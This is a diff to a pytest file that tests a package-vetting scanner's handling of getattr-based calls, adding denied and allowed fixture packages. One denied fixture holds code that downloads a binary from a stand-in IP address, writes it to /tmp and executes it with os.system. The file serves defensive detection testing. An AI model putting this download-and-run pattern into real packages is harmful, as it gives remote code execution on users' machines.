@@ -158,3 +158,40 @@ SETUP_ALLOWED: dict[str, dict[str, str]] = {
 @pytest.mark.parametrize(("files", "expected"), verdict_cases(SETUP_DENIED, {}, SETUP_ALLOWED))
 def test_setup_helpers(files: dict[str, str], expected: Outcome) -> None:
     assert vet_package(files) is expected
+
+
+GETATTR_DENIED: dict[str, dict[str, str]] = {
+    # Not called on import: the chain, not the hidden callee, is what denies it.
+    "download-written-through-getattr-then-run-when-called": init(
+        "import os, requests\n"
+        "def fetch():\n"
+        "    r = requests.get('https://203.0.113.5/s.bin')\n"
+        "    with open('/tmp/s.bin', 'wb') as f:\n"
+        "        getattr(f, 'write')(getattr(r, 'content'))\n"
+        "    os.system('/tmp/s.bin')\n"
+    ),
+}
+
+GETATTR_ALLOWED: dict[str, dict[str, str]] = {
+    "settings-written-through-getattr-on-import": init(
+        "import json, os\n"
+        "def save(cfg):\n"
+        "    with open(os.path.join(os.path.dirname(__file__), 'cfg.json'), 'w') as f:\n"
+        "        getattr(f, 'write')(json.dumps(cfg))\n"
+        "save({'a': 1})\n"
+    ),
+    "buffer-read-through-getattr": init(
+        "import io\nbuf = io.StringIO()\nbuf.write('x')\nTEXT = getattr(buf, 'getvalue')()\n"
+    ),
+    "download-kept-in-memory-through-getattr": init(
+        "import requests\n"
+        "def page():\n"
+        "    r = requests.get('https://example.org/')\n"
+        "    return getattr(r, 'text')\n"
+    ),
+}
+
+
+@pytest.mark.parametrize(("files", "expected"), verdict_cases(GETATTR_DENIED, {}, GETATTR_ALLOWED))
+def test_getattr_of_data(files: dict[str, str], expected: Outcome) -> None:
+    assert vet_package(files) is expected
